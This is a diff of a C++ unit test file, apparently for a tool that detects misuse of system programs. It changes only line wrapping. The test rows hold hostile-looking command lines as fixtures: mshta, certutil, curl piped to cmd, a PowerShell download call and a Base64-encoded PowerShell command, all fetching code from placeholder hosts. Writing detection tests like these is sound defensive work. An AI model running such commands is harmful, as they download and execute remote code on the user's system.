@@ -104,8 +104,7 @@ TEST(ComponentTable, EveryFileIsRight) {
       EXPECT_TRUE(names.insert(row.name).second) << row.name << " stands twice";
       for (const std::string& id : row.program_ids)
         EXPECT_TRUE(ids.insert(plain_name(id)).second) << id << " stands twice";
-      for (const std::string& id : row.class_ids)
-        EXPECT_TRUE(ids.insert(id).second) << id << " stands twice";
+      for (const std::string& id : row.class_ids) EXPECT_TRUE(ids.insert(id).second) << id << " stands twice";
       bool convicts = false;
       for (const Misuse& misuse : row.misuses) convicts = convicts || !misuse.source.empty();
       convicting += convicts;
@@ -202,11 +201,13 @@ TEST(ComponentJudge, FindsAddressesInCommands) {
   } rows[] = {
       {"none", "cmd /c dir", {}},
       {"quoted", "mshta \"http://a.example/x.hta\"", {"http://a.example/x.hta"}},
-      {"two", "certutil -urlcache -f HTTP://a.example/1 1.exe & curl https://b.example/2|cmd",
+      {"two",
+       "certutil -urlcache -f HTTP://a.example/1 1.exe & curl https://b.example/2|cmd",
        {"HTTP://a.example/1", "https://b.example/2"}},
       {"call", "(New-Object Net.WebClient).DownloadFile('http://a.example/p','p')", {"http://a.example/p"}},
       // "iwr http://a.example/p" in UTF-16, Base64.
-      {"encoded", "powershell -nop -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAA=",
+      {"encoded",
+       "powershell -nop -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAA=",
        {"http://a.example/p"}},
       {"scheme_alone", "start http://", {}},
   };
